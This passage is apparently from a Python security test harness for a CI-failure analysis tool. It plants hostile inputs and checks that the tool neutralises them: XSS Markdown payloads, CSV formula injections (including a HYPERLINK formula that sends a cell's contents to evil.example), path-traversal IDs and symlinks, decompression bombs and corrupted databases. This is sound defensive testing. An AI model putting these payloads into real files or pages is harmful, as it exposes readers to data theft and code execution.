    from tests.planted import KINDS, plant

    cases = []
    for k, kind in enumerate(sorted(KINDS)):
        for p, place in enumerate(SECRET_PLACES):
            planted = plant(kind, 1000 * k + p)
            env = {"CI_MEDIC_GITHUB_TOKEN": planted.literal} if planted.literal else {}
            cases.append(
                Case(
                    "secrets",
                    f"{kind}@{place}",
                    prepare=lambda ctx, place=place, planted=planted: (
                        ctx.hostile_dump(),
                        _plant(ctx.dump, place, planted.printed),
                    ),
                    steps=lambda ctx, env=env: [
                        Step(s.argv, env=env) for s in _import_analyze(ctx)
                    ],
                    secrets=planted.secrets,
                    expect=({0}, {0}),
                    changes=(HOSTILE_REPO,),
                )
            )
    # rca prints what it found in a log: the failing line, with whatever it holds
    for k, kind in enumerate(sorted(KINDS)):
        planted = plant(kind, 500 + k)
        env = {"CI_MEDIC_GITHUB_TOKEN": planted.literal} if planted.literal else {}
        log = (
            "2024-05-01T12:00:01.0000000Z ##[group]Run pytest\n"
            + _timestamped(f"FAILED tests/t.py::test_x - AssertionError: {planted.printed}", 2)
            + "\n2024-05-01T12:00:09.0000000Z ##[error]Process completed with exit code 1.\n"
        )
        cases.append(
            Case(
                "secrets",
                f"{kind}@rca-output",
                prepare=lambda ctx, log=log: (ctx.dir / "failed.log").write_text(log),
                steps=lambda ctx, env=env: [
                    Step(["rca", str(ctx.dir / "failed.log")], env=env),
                    Step(["rca", str(ctx.dir / "failed.log"), "--json"], env=env),
                ],
                secrets=planted.secrets,
                store=False,
            )
        )
    # the configured token itself: printed by a sync's failure, or in a log line
    cases.append(
        Case(
            "secrets",
            "configured-token@sync-errors",
            steps=lambda ctx: [
                Step(
                    ["--db", str(ctx.db), "sync", "o/r", "--budget", "1"],
                    env={
                        "CI_MEDIC_GITHUB_BASE_URL": "http://127.0.0.1:9",
                        "CI_MEDIC_HTTP_TIMEOUT_S": "0.2",
                        "CI_MEDIC_MAX_RETRIES": "0",
                    },
                ),
                Step(
                    ["--db", str(ctx.db), "sync", "o/r"],
                    env={"CI_MEDIC_GITHUB_TOKEN": "abc\ndefghijklmnop12345678"},
                ),
            ],
            secrets=("defghijklmnop12345678",),
        )
    )
    return cases


# -- (4) Markdown from GitHub data, drawn by the pages --------------------------------------------
MARKDOWN = {
    "bold-link": (
        "**bold{n}** [click{n}](javascript:alert({n}))",
        ("**bold{n}**", "](javascript:alert({n}))"),
    ),
    "image-beacon": ("![beacon{n}](http://evil.example/{n}.png)", ("![beacon{n}](",)),
    "html": ("<img src=x onerror=alert({n})>", ("<img src=x onerror=alert({n})>",)),
    "katex": ("$$\\KaTeX{n}$$", ("$$\\KaTeX{n}$$",)),
    "directive": (":red[alarm{n}] :material/warning:", (":red[alarm{n}]",)),
    "chart-link": (
        '<a href="https://evil.example/{n}">open{n}</a>',
        ('<a href="https://evil.example/{n}">',),
    ),
}
MARKDOWN_PLACES = (
    "job-name",
    "step-name",
    "commit-message",
    "run-title",
    "branch",
    "error-line",
    "junit-name",
)


def markdown_plan() -> list[tuple[str, str, str, tuple[str, ...]]]:
    """(case name, place, payload, unescaped signatures): one failing run each."""
    plan = []
    for i, ((kind, (payload, signs)), place) in enumerate(
        (item, place) for item in MARKDOWN.items() for place in MARKDOWN_PLACES
    ):
        n = 100 + i
        plan.append(
            (f"{kind}@{place}", place, payload.format(n=n), tuple(s.format(n=n) for s in signs))
        )
    for place in ("run-url", "job-url"):  # a link column must never offer javascript:
        n = 100 + len(plan)
        plan.append(
            (
                f"javascript-link@{place}",
                place,
                f"javascript:alert({n})",
                (f"javascript:alert({n})",),
            )
        )
    return plan


def markdown_group(assets: Assets, keep: bool) -> list[Outcome]:
    """One store with every payload (each in its own failing run), imported and analysed by the
    CLI, then every page rendered once by AppTest; a case fails when its unescaped signature is
    in an element Streamlit draws as Markdown."""
    plan = markdown_plan()
    folder = assets.folder / "markdown"
    ctx = Ctx(folder, assets)
    folder.mkdir()
    ctx.out.mkdir()
    started = time.perf_counter()
    from tests.integration.dump_factory import make_dump

    make_dump(ctx.dump, runs=len(plan), fail_every=1, full_name=HOSTILE_REPO)
    # every (payload, place) in a failing run of its own: _plant edits "the failing run" (the
    # last line of runs.jsonl), so each run takes its turn at the end
    for i, (_, place, payload, _) in enumerate(plan):
        rows = sorted(_runs(ctx.dump), key=lambda r: r["id"])
        target = rows.pop(i)
        _write_runs(ctx.dump, [*rows, target])
        _plant(ctx.dump, place, payload)
    _write_runs(ctx.dump, sorted(_runs(ctx.dump), key=lambda r: r["id"]))
    results, _, died = _run_steps(
        [(s, folder) for s in _import_analyze(ctx)],
        memory_cap=MEMORY_CAP,
        timeout=600,
        scratch=folder / "run",
    )
    base = _crashes(Case("markdown", "-"), results) if not died else [f"crash: {died}"]
    shown, app_error = _render_app(ctx, folder)
    outcomes = []
    for name, _, _, signs in plan:
        reasons = list(base)
        if app_error:
            reasons.append(f"crash: the app: {app_error}")
        for sign in signs:
            chart_sign = sign.startswith("<a href")  # plotly draws links; Markdown is not its job
            where = sorted(
                {w for w, text in shown if sign in text and w.endswith(" chart") == chart_sign}
            )
            if where:
                drawn = "as a link in a chart" if chart_sign else "as Markdown"
                reasons.append(
                    f"leak: unescaped {sign!r} drawn {drawn} in {', '.join(where)[:100]}"
                )
        outcomes.append(Outcome(Case("markdown", name), reasons, time.perf_counter() - started))
    if not keep:
        shutil.rmtree(folder, ignore_errors=True)
    return outcomes


APP_PAGES = (
    "pages/overview.py",
    "pages/layer1_collection.py",
    "pages/layer2_intelligence.py",
    "pages/queues.py",
)
# elements Streamlit draws as Markdown (and plotly charts, whose labels draw a few HTML tags)
MARKDOWN_ELEMENTS = (
    "markdown",
    "caption",
    "info",
    "success",
    "warning",
    "error",
    "title",
    "header",
    "subheader",
)


def _render_app(ctx: Ctx, folder: Path) -> tuple[list[tuple[str, str]], str | None]:
    """(where, text) of every Markdown-drawn element (and link cells) of every page, or why
    the app could not be rendered; run in a child interpreter (AppTest keeps global state)."""
    runs = []
    for run in _runs(ctx.dump):
        jobs = _read_json(ctx.dump / "jobs" / f"{run['id']}.json")["jobs"]
        runs.append((run["id"], next(j["id"] for j in jobs if j["conclusion"] == "failure")))
    spec = {"runs": runs}
    path = folder / "app-spec.json"
    path.write_text(json.dumps(spec))
    env = _base_env(folder)
    env["CI_MEDIC_DB_PATH"] = str(ctx.db)
    env["CI_MEDIC_REPO"] = HOSTILE_REPO
    try:
        proc = subprocess.run(
            [sys.executable, str(Path(__file__).resolve()), "--app", str(path)],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=900,
        )
    except subprocess.TimeoutExpired:
        return [], "timed out"
    out = folder / "app-shown.json"
    if not out.exists():
        tail = (proc.stderr.strip().splitlines() or ["no output"])[-1]
        return [], f"could not be rendered ({tail[:160]})"
    data = json.loads(out.read_text())
    return [tuple(x) for x in data["shown"]], data.get("error")


def _strings(value: Any) -> Iterator[str]:
    """Every string inside a JSON value (a chart's labels, hover texts, titles)."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _app_child(spec_path: str) -> None:
    """Render every page, then every run of the drill-down (its failing job) and every failure
    of the root-cause section, collecting what Streamlit draws as Markdown."""
    from streamlit.testing.v1 import AppTest, element_tree

    # AppTest cannot compute the index of a selectbox showing no choice (a placeholder): every
    # run after one is drawn fails in its widget states. Such a box has no index, simply.
    index = element_tree.Selectbox.index

    def no_index_when_unset(self: Any) -> int | None:
        try:
            return index.fget(self)
        except ValueError:
            return None

    element_tree.Selectbox.index = property(no_index_when_unset)
    spec = json.loads(Path(spec_path).read_text())
    shown: list[tuple[str, str]] = []
    errors: list[str] = []
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=600)

    def collect(where: str) -> None:
        if at.exception:
            errors.append(f"{where}: {[e.value for e in at.exception][:1]}")
        for kind in MARKDOWN_ELEMENTS:
            for element in getattr(at, kind):
                shown.append((f"{where} {kind}", str(element.value)))
        for kind in ("expander", "tabs"):
            for element in at.get(kind):
                label = getattr(element, "label", None) or getattr(element.proto, "label", "")
                shown.append((f"{where} {kind} label", str(label)))
        for chart in at.get("plotly_chart"):  # plotly draws <a href>, <b>, <span> in labels
            with contextlib.suppress(ValueError, AttributeError):
                shown.append((f"{where} chart", "\n".join(_strings(json.loads(chart.proto.spec)))))
        for frame in at.dataframe:
            config = str(frame.proto)
            for column in frame.value.columns:
                values = frame.value[column].astype(str)
                bad = values[values.str.lower().str.strip().str.startswith("javascript:")]
                if len(bad) and "link" in config.lower():
                    shown.append((f"{where} link column {column}", "|".join(bad)))

    def has(key: str) -> bool:
        return any(box.key == key for box in at.selectbox)

    try:
        at.run()
        for page in APP_PAGES:
            at.switch_page(page).run()
            collect(page.split("/")[-1])
        at.switch_page("pages/layer1_collection.py").run()
        for run_id, job_id in spec["runs"]:  # the drill-down: each run, its failing job
            if has("drill_run"):
                at.selectbox(key="drill_run").set_value(run_id).run()
            if has("drill_job"):
                at.selectbox(key="drill_job").set_value(job_id).run()
            collect(f"pipelines run {run_id}")
        at.switch_page("pages/layer2_intelligence.py").run()
        options = next((list(b.options) for b in at.selectbox if b.key == "rca_failure"), [])
        for option in options[:60]:  # the root-cause section: each failure
            at.selectbox(key="rca_failure").set_value(option).run()
            collect(f"root causes [{option[-20:]}]")
    except Exception as exc:  # noqa: BLE001 - reported, not raised
        errors.append(f"{type(exc).__name__}: {exc}")
    out = Path(spec_path).with_name("app-shown.json")
    out.write_text(json.dumps({"shown": shown, "error": "; ".join(errors) or None}))


# -- (5) decompression bombs ----------------------------------------------------------------------
def bomb_cases() -> list[Case]:
    def rca(kind: str, how: str) -> Case:
        def prepare(ctx: Ctx) -> None:
            shutil.copyfile(ctx.assets.bombs[kind], ctx.dir / "bomb.log.gz")
            (ctx.dir / "ok.log").write_text("FAILED tests/t.py::test_x - assert 1 == 2\n")
            if how == "nested":
                (ctx.dir / "bomb.log.gz").write_bytes(
                    gzip.compress(ctx.assets.bombs[kind].read_bytes())
                )

        argv = {
            "alone": ["rca", "bomb.log.gz"],
            "json": ["rca", "bomb.log.gz", "ok.log", "--json"],
            "previous-green": ["rca", "ok.log", "--previous-green", "bomb.log.gz"],
            "nested": ["rca", "bomb.log.gz"],
        }[how]
        return Case(
            "bombs",
            f"rca-{kind}-{how}",
            prepare=prepare,
            store=False,
            steps=[Step(argv)],
            timeout=300,
        )

    def imported(kind: str, rel: str) -> Case:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            run_id, job_id, sha = _failing(root)
            target = root / rel.format(run=run_id, job=job_id, sha=sha)
            if target.exists():
                target.unlink()
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(ctx.assets.bombs[kind], target.with_name(target.name + ".gz"))

        record = not rel.startswith(("logs/", "artifacts/"))
        return Case(
            "bombs",
            f"import-{kind}-{rel.split('/')[0].split('.')[0]}",
            prepare=prepare,
            steps=_import(),
            atomic=record,
            expect=({1},) if record else ({0},),
            changes=() if record else (HOSTILE_REPO,),
            timeout=300,
        )

    cases = [rca(k, h) for k in ("zeros", "text") for h in ("alone", "json", "previous-green")]
    cases.append(rca("zeros", "nested"))
    for rel in (
        "logs/{job}.txt",
        "artifacts/{run}/test-results/junit.xml",
        "runs.jsonl",
        "jobs/{run}.json",
        "commits/{sha}.json",
        "repo.json",
        "workflows.json",
    ):
        cases.append(imported("zeros", rel))
    cases.append(imported("text", "logs/{job}.txt"))
    cases.append(imported("text", "attempts.jsonl"))
    return cases


# -- (6) spreadsheet formulas in analyze's CSVs -------------------------------------------------
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    'build\r=HYPERLINK("http://evil.example/","x")',  # a bare CR ends the CSV row
    "build\n=1+1",
)
FORMULA_PLACES = (
    "job-name",
    "step-name",
    "error-line",
    "junit-name",
    "junit-message",
    "commit-message",
    "branch",
)


def _formula_cells(ctx: Ctx, results: list[Result]) -> list[str]:
    from core.presentation.exports import FORMULA_START

    number = re.compile(r"[+-]?(?:\d{1,3}(?:,\d{3})+|\d+)?(?:\.\d+)?(?:[eE][+-]?\d+)?%?")
    found = []
    for path in sorted(ctx.out.glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as handle:
            rows = list(csv.reader(handle))
        header = rows[0] if rows else []
        for r, row in enumerate(rows[1:], start=2):
            for c, cell in enumerate(row):
                if cell.startswith(FORMULA_START) and not (
                    any(ch.isdigit() for ch in cell) and number.fullmatch(cell)
                ):
                    column = header[c] if c < len(header) else c
                    found.append(
                        f"leak: formula cell {cell[:30]!r} in {path.name} row {r} {column}"
                    )
                if cell.lower().lstrip().startswith("javascript:"):
                    found.append(f"leak: javascript: link {cell[:30]!r} in {path.name} row {r}")
    return found[:3]


def formula_cases() -> list[Case]:
    cases = []
    for formula in FORMULAS:
        for place in FORMULA_PLACES:
            cases.append(
                Case(
                    "csv_injection",
                    f"{place}:{formula[:14]!r}",
                    prepare=lambda ctx, place=place, formula=formula: (
                        ctx.hostile_dump(),
                        _plant(ctx.dump, place, formula, bare=True),
                    ),
                    steps=_import_analyze,
                    expect=({0}, {0}),
                    changes=(HOSTILE_REPO,),
                    checks=(_formula_cells,),
                )
            )
    return cases


# -- (7) paths that lead out of the dump -----------------------------------------------------------
def traversal_cases() -> list[Case]:
    def outside(ctx: Ctx, content: bytes | str) -> Path:
        secret = f"OUTSIDE-{hashlib.sha1(str(ctx.dir).encode()).hexdigest()[:16]}"
        ctx.data["secret"] = secret
        path = ctx.dir / "outside" / "secret.txt"
        path.parent.mkdir(exist_ok=True)
        text = content if isinstance(content, str) else content.decode()
        path.write_text(text.replace("SECRET", secret))
        return path

    def link(target: Path, at: Path) -> None:
        if at.exists() or at.is_symlink():
            at.unlink()
        at.parent.mkdir(parents=True, exist_ok=True)
        at.symlink_to(target)

    def variant(name: str, change: Callable[[Ctx, Path, int, int, str], None]) -> Case:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            run_id, job_id, sha = _failing(root)
            change(ctx, root, run_id, job_id, sha)

        return Case(
            "path_traversal",
            name,
            prepare=prepare,
            steps=_import_analyze,
            changes=(HOSTILE_REPO,),
            checks=(lambda ctx, _r: find_leaks(ctx, _r, (ctx.data.get("secret", "\x00"),)),),
        )

    def sha_climbs(ctx: Ctx, root: Path, *_: Any) -> None:
        outside(ctx, json.dumps({"sha": "0" * 40, "commit": {"message": "SECRET"}}))
        rows = _runs(root)
        rows[-1]["head_sha"] = "../../outside/secret"
        _write_runs(root, rows)

    def sha_absolute(ctx: Ctx, root: Path, *_: Any) -> None:
        path = outside(ctx, json.dumps({"commit": {"message": "SECRET"}}))
        rows = _runs(root)
        rows[-1]["head_sha"] = str(path.with_suffix(""))
        _write_runs(root, rows)

    def job_id_climbs(ctx: Ctx, root: Path, run_id: int, job_id: int, _sha: str) -> None:
        outside(ctx, "SECRET\n")
        _edit_job(root, lambda job: job.update(id="../../outside/secret"))

    def run_id_climbs(ctx: Ctx, root: Path, *_: Any) -> None:
        outside(ctx, json.dumps({"jobs": [{"id": 5, "name": "SECRET"}]}))
        rows = _runs(root)
        rows[-1]["id"] = "../outside/secret"
        _write_runs(root, rows)

    def symlinked(rel: str, content: str) -> Callable[..., None]:
        def change(ctx: Ctx, root: Path, run_id: int, job_id: int, sha: str) -> None:
            target = root / rel.format(run=run_id, job=job_id, sha=sha)
            real = target.read_text() if target.is_file() else ""
            source = outside(
                ctx, content.replace("REAL", real[:-1] if real.endswith("\n") else real)
            )
            link(source, target)

        return change

    def folder_symlinked(rel: str, inner: str, content: str) -> Callable[..., None]:
        def change(ctx: Ctx, root: Path, run_id: int, job_id: int, sha: str) -> None:
            source = outside(ctx, content)
            folder = ctx.dir / "outside" / "folder"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / inner.format(job=job_id)).write_text(source.read_text())
            target = root / rel.format(run=run_id)
            shutil.rmtree(target, ignore_errors=True)
            link(folder, target)

        return change

    commit = json.dumps({"commit": {"message": "SECRET"}})
    return [
        variant("head_sha-../../", sha_climbs),
        variant("head_sha-absolute", sha_absolute),
        variant("job-id-../../", job_id_climbs),
        variant("run-id-../", run_id_climbs),
        variant("log-symlink-out", symlinked("logs/{job}.txt", "2024-05-01T12:00:00Z SECRET\n")),
        variant("commit-symlink-out", symlinked("commits/{sha}.json", commit)),
        variant(
            "jobs-file-symlink-out",
            symlinked("jobs/{run}.json", json.dumps({"jobs": [{"id": 77, "name": "SECRET"}]})),
        ),
        variant(
            "runs-jsonl-symlink-out",
            symlinked("runs.jsonl", json.dumps({"id": 5, "name": "SECRET"}) + "\n"),
        ),
        variant(
            "repo-json-symlink-out",
            symlinked(
                "repo.json",
                json.dumps(
                    {
                        "full_name": "octo-org/demo",
                        "description": "SECRET",
                        "default_branch": "SECRET",
                    }
                ),
            ),
        ),
        variant(
            "junit-symlink-out",
            symlinked(
                "artifacts/{run}/test-results/junit.xml",
                '<testsuite><testcase classname="SECRET" name="SECRET"><failure message="SECRET"/>'
                "</testcase></testsuite>",
            ),
        ),
        variant(
            "artifact-folder-symlink-out",
            folder_symlinked(
                "artifacts/{run}/test-results",
                "junit.xml",
                '<testsuite><testcase classname="c" name="SECRET"/></testsuite>',
            ),
        ),
        variant(
            "logs-folder-symlink-out",
            folder_symlinked("logs", "{job}.txt", "2024-05-01T12:00:00Z SECRET\n"),
        ),
    ]


# -- (8) a foreign SQLite file as --db -------------------------------------------------------------
def foreign_cases() -> list[Case]:
    def make(kind: str) -> Callable[[Ctx], None]:
        def prepare(ctx: Ctx) -> None:
            path = ctx.dir / "other.db"
            con = sqlite3.connect(path)
            if kind == "notes":
                con.execute("CREATE TABLE notes (a TEXT)")
                con.execute("INSERT INTO notes VALUES ('keep me')")
            elif kind == "same-table-names":
                con.execute("CREATE TABLE runs (run_id INTEGER, attempt INTEGER, x TEXT)")
                con.execute("CREATE TABLE repositories (id INTEGER PRIMARY KEY, full_name TEXT)")
            elif kind == "wal-mode":
                con.execute("PRAGMA journal_mode=WAL")
                con.execute("CREATE TABLE notes (a TEXT)")
            elif kind == "user-version":
                con.execute("CREATE TABLE notes (a TEXT)")
                con.execute("PRAGMA user_version = 7")
            elif kind == "empty-database":
                con.execute("PRAGMA user_version = 1")  # a valid SQLite file with no table
            con.commit()
            con.close()
            os.utime(path, ns=(1_000_000_000_000_000_000, 1_000_000_000_000_000_000))
            if kind in ("wal-mode",):
                ctx.data["sidecars"] = True
            ctx.hostile_dump()

        return prepare

    commands: dict[str, Callable[[Ctx], Step]] = {
        "status": lambda ctx: Step(["--db", str(ctx.dir / "other.db"), "status"]),
        "import": lambda ctx: Step(["--db", str(ctx.dir / "other.db"), "import", str(ctx.dump)]),
        "analyze": lambda ctx: Step(
            ["--db", str(ctx.dir / "other.db"), "analyze", "--out", str(ctx.out)]
        ),
        "sync": lambda ctx: Step(["--db", str(ctx.dir / "other.db"), "sync", "o/r"]),
        "worker-status": lambda ctx: Step(
            ["status", "--db", str(ctx.dir / "other.db"), "--endpoint", "http://127.0.0.1:9"],
            module="core.queue.cli",
        ),
        "worker-run": lambda ctx: Step(
            [
                "run",
                "--burst",
                "--db",
                str(ctx.dir / "other.db"),
                "--endpoint",
                "http://127.0.0.1:9",
            ],
            module="core.queue.cli",
        ),
    }
    cases = []
    for kind in ("notes", "same-table-names", "wal-mode", "user-version", "empty-database"):
        for command, step in commands.items():
            cases.append(
                Case(
                    "foreign_db",
                    f"{kind}:{command}",
                    prepare=make(kind),
                    steps=lambda ctx, step=step: [step(ctx)],
                    store=False,
                    expect=({1},),
                    protect=("other.db",),
                )
            )
    return cases


# -- (9) tracebacks: damaged stores, malformed dumps, bad settings and arguments -------------------
def damaged_store_cases() -> list[Case]:
    def damage(kind: str) -> Callable[[Ctx], None]:
        def prepare(ctx: Ctx) -> None:
            data = ctx.db.read_bytes() if ctx.db.exists() else b""
            if kind == "truncated-half":
                ctx.db.write_bytes(data[: len(data) // 2])
            elif kind == "truncated-header":
                ctx.db.write_bytes(data[:100])
            elif kind == "random-bytes":
                ctx.db.write_bytes(random.Random(7).randbytes(len(data) or 8192))
            elif kind == "zero-bytes-long":
                ctx.db.write_bytes(bytes(len(data) or 8192))
            elif kind == "page-flipped":
                mid = len(data) // 2
                ctx.db.write_bytes(
                    data[:mid]
                    + bytes(b ^ 0xFF for b in data[mid : mid + 4096])
                    + data[mid + 4096 :]
                )
            elif kind == "folder":
                ctx.db.unlink()
                ctx.db.mkdir()
            elif kind == "dangling-symlink":
                ctx.db.unlink()
                ctx.db.symlink_to(ctx.dir / "nowhere" / "x.db")
            elif kind == "garbage-wal":
                ctx.db.with_name("s.db-wal").write_bytes(b"\x37\x7f\x06\x82" + bytes(100))
            elif kind == "text-file":
                ctx.db.write_text("these are my notes, not a store\n")
            elif kind == "under-a-file":
                ctx.data["db"] = str(ctx.dir / "file.txt" / "s.db")
                (ctx.dir / "file.txt").write_text("x")
            elif kind == "read-only-file" and os.geteuid() != 0:  # root writes it anyway
                ctx.db.chmod(0o444)

        return prepare

    def step(command: str) -> Callable[[Ctx], list[Step]]:
        def build(ctx: Ctx) -> list[Step]:
            db = ctx.data.get("db", str(ctx.db))
            return [
                {
                    "status": Step(["--db", db, "status"]),
                    "import": Step(["--db", db, "import", str(ctx.assets.hostile)]),
                    "analyze": Step(["--db", db, "analyze", "--out", str(ctx.out)]),
                    "worker-status": Step(
                        ["status", "--db", db, "--endpoint", "http://127.0.0.1:9"],
                        module="core.queue.cli",
                    ),
                }[command]
            ]

        return build

    kinds = (
        "truncated-half",
        "truncated-header",
        "random-bytes",
        "zero-bytes-long",
        "page-flipped",
        "folder",
        "dangling-symlink",
        "garbage-wal",
        "text-file",
        "under-a-file",
        *(("read-only-file",) if os.geteuid() != 0 else ()),
    )
    return [
        Case(
            "damaged_store",
            f"{kind}:{command}",
            prepare=damage(kind),
            steps=step(command),
            batch=True,
            changes=(BASE_REPO, HOSTILE_REPO),
        )
        for kind in kinds
        for command in ("status", "import", "analyze", "worker-status")
    ]


BAD_VALUES: dict[str, Any] = {
    "id-text": ("id", "12"),
    "id-1e30": ("id", 1e30),
    "id-negative": ("id", -5),
    "id-zero": ("id", 0),
    "id-float": ("id", 5.0),
    "id-true": ("id", True),
    "id-2^64": ("id", 2**64),
    "id-null": ("id", None),
    "time-yesterday": ("created_at", "yesterday"),
    "time-month-13": ("created_at", "2024-13-01T00:00:00Z"),
    "time-year-9999": ("created_at", "9999-12-31T23:59:59Z"),
    "time-number": ("created_at", 1714564800),
}


def malformed_dump_cases() -> list[Case]:
    def record_case(kind: str, label: str, key: str, value: Any) -> Case:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            run_id, job_id, sha = _failing(root)
            if kind == "repo":
                repo = _read_json(root / "repo.json")
                repo[key] = value
                _write_json(root / "repo.json", repo)
            elif kind == "workflow":
                data = _read_json(root / "workflows.json")
                data["workflows"][0][key] = value
                _write_json(root / "workflows.json", data)
            elif kind == "run":
                rows = _runs(root)
                rows[1][key] = value
                _write_runs(root, rows)
            elif kind == "attempt":
                rows = _runs(root)
                attempt = {**rows[-1], "run_attempt": 1, key: value}
                rows[-1]["run_attempt"] = 2
                _write_runs(root, rows)
                _write_runs(root, [attempt], "attempts.jsonl")
            elif kind == "job":
                _edit_job(
                    root,
                    lambda job: job.__setitem__(
                        key if key != "created_at" else "started_at", value
                    ),
                )
            elif kind == "step":
                _edit_job(
                    root,
                    lambda job: job["steps"][0].__setitem__(
                        "number" if key == "id" else "started_at", value
                    ),
                )
            elif kind == "commit":
                path = root / "commits" / f"{sha}.json"
                commit = _read_json(path)
                if key == "id":
                    commit["stats"] = {"additions": value}
                else:
                    commit["commit"]["author"]["date"] = value
                _write_json(path, commit)

        return Case(
            "malformed_dump",
            f"{kind}:{label}",
            prepare=prepare,
            steps=_import(),
            atomic=True,
            changes=(HOSTILE_REPO,),
            checks=(_reported_equals_stored,),
            batch=True,
        )

    cases = [
        record_case(kind, label, key, value)
        for kind in ("repo", "workflow", "run", "attempt", "job", "step", "commit")
        for label, (key, value) in BAD_VALUES.items()
        if not (kind in ("repo", "workflow") and key == "created_at")
    ]

    def file_case(
        label: str, rel: str, content: Callable[[bytes], bytes], gz: bool = False
    ) -> Case:
        def prepare(ctx: Ctx) -> None:
            root = ctx.hostile_dump()
            run_id, _, sha = _failing(root)
            path = root / rel.format(run=run_id, sha=sha)
            data = path.read_bytes() if path.exists() else b""
            if path.exists():
                path.unlink()
            path.parent.mkdir(parents=True, exist_ok=True)
            (path.with_name(path.name + ".gz") if gz else path).write_bytes(content(data))

        return Case(
            "malformed_dump",
            f"{rel.split('/')[0]}:{label}",
            prepare=prepare,
            steps=_import(),
            atomic=True,
            changes=(HOSTILE_REPO,),
            checks=(_reported_equals_stored,),
            batch=True,
        )

    def first_line_is(value: bytes) -> Callable[[bytes], bytes]:
        return lambda data: value + b"\n" + data

    transforms: dict[str, tuple[Callable[[bytes], bytes], bool]] = {
        "gz-truncated": (lambda d: gzip.compress(d)[: len(gzip.compress(d)) // 2], True),
        "gz-not-gzip": (lambda d: b"this is not gzip at all", True),
        "gz-empty": (lambda d: b"", True),
        "empty-file": (lambda d: b"", False),
        "bom": (lambda d: b"\xef\xbb\xbf" + d, False),
        "utf-16": (lambda d: d.decode().encode("utf-16"), False),
        "invalid-utf8": (lambda d: d[:5] + b"\xff\xfe\xfd" + d[5:], False),
        "cut-in-half": (lambda d: d[: len(d) // 2], False),
        "deep-nesting": (lambda d: b"[" * 200_000 + b"]" * 200_000, False),
        "nan-id": (lambda d: re.sub(rb'"id":\s*\d+', b'"id": NaN', d, count=1), False),
        "huge-number": (lambda d: re.sub(rb'"id":\s*\d+', b'"id": 1e400', d, count=1), False),
        "duplicate-keys": (
            lambda d: re.sub(rb'"id":\s*(\d+)', rb'"id": 1, "id": \1', d, count=1),
            False,
        ),
    }
    for rel in (
        "repo.json",
        "workflows.json",
        "runs.jsonl",
        "jobs/{run}.json",
        "commits/{sha}.json",
    ):
        for label, (change, gz) in transforms.items():
            if rel == "runs.jsonl" and label in ("bom",):
                continue
            cases.append(file_case(label, rel, change, gz))
    for label, line in (
        ("line-is-a-list", b"[1, 2, 3]"),
        ("line-is-null", b"null"),
        ("line-is-a-number", b"42"),
        ("line-is-text", b'"run"'),
        ("line-of-5MB", b'{"id": 1, "name": "' + b"x" * (5 * MIB) + b'"}'),
    ):
        cases.append(file_case(label, "runs.jsonl", first_line_is(line)))
        cases.append(file_case(label, "attempts.jsonl", lambda d, line=line: line + b"\n"))
    return cases


def settings_and_argument_cases() -> list[Case]:
    cases = []

    def case(
        name: str,
        argv: list[str],
        env: dict | None = None,
        module: str = "agents.cli",
        expect: set[int] | None = None,
        prepare: Callable[[Ctx], None] | None = None,
        store: bool = True,
    ) -> Case:
        def steps(ctx: Ctx) -> list[Step]:
            fill = {
                "db": str(ctx.db),
                "dir": str(ctx.dir),
                "out": str(ctx.out),
                "dump": str(ctx.assets.hostile),
            }
            return [Step([a.format(**fill) for a in argv], module=module, env=env or {})]

        return Case(
            "bad_arguments",
            name,
            prepare=prepare,
            steps=steps,
            batch=True,
            expect=(expect,),
            store=store,
        )

    for url in (
        "ftp://ghe.example.com/api/v3",
        "http://[::1",
        "http://localhost:99999",
        "http://",
        "https://exa mple.com",
        "javascript:alert(1)",
        "",
        "http://h:0",
    ):
        cases.append(
            case(
                f"sync --base-url {url!r}",
                ["--db", "{db}", "sync", "acme/app", "--base-url", url],
                expect={1},
            )
        )
        cases.append(
            case(
                f"env base url {url!r}: status",
                ["--db", "{db}", "status"],
                env={"CI_MEDIC_GITHUB_BASE_URL": url},
                expect={1} if url else None,
            )
        )
    for variable, values in (
        ("CI_MEDIC_HTTP_TIMEOUT_S", ("0", "nan", "-1", "inf", "abc", "1e400")),
        ("CI_MEDIC_REQUEST_BUDGET", ("0", "-5", "2.5", "1e9999")),
        ("CI_MEDIC_MAX_RATE_LIMIT_WAIT_S", ("-1", "nan")),
        ("CI_MEDIC_MAX_LOG_BYTES", ("0", "-1", "abc", "1e30")),
        ("CI_MEDIC_WORKER_BATCH_SIZE", ("0", "11")),
    ):
        for value in values:
            cases.append(
                case(
                    f"{variable}={value}",
                    ["--db", "{db}", "status"],
                    env={variable: value},
                    expect={1},
                )
            )
    for endpoint in (
        "ftp://127.0.0.1:4566",
        "http://[::1",
        "http://127.0.0.1:99999",
        "127.0.0.1:4566",
        "http://127.0.0.1:0",
    ):
        for command in (["status"], ["run", "--burst"], ["consume", "logs", "--max", "1"]):
            cases.append(
                case(
                    f"worker {' '.join(command)} --endpoint {endpoint}",
                    [*command, "--db", "{db}", "--endpoint", endpoint],
                    module="core.queue.cli",
                    expect={1},
                )
            )
    for size in ("0", "11", "-1", "1.5", "nan"):
        cases.append(
            case(
                f"worker run --batch-size {size}",
                ["run", "--burst", "--batch-size", size, "--db", "{db}"],
                module="core.queue.cli",
                expect={2},
            )
        )

    def file_at(rel: str, content: bytes = b"keep me") -> Callable[[Ctx], None]:
        return lambda ctx: (ctx.dir / rel).write_bytes(content)

    cases += [
        case(
            "analyze --out FILE",
            ["--db", "{db}", "analyze", "--out", "{dir}/f.csv"],
            expect={1},
            prepare=file_at("f.csv"),
        ),
        case(
            "analyze --out below a file",
            ["--db", "{db}", "analyze", "--out", "{dir}/f.csv/x"],
            expect={1},
            prepare=file_at("f.csv"),
        ),
        case(
            "analyze --repo nobody/none",
            ["--db", "{db}", "analyze", "--repo", "nobody/none", "--out", "{out}"],
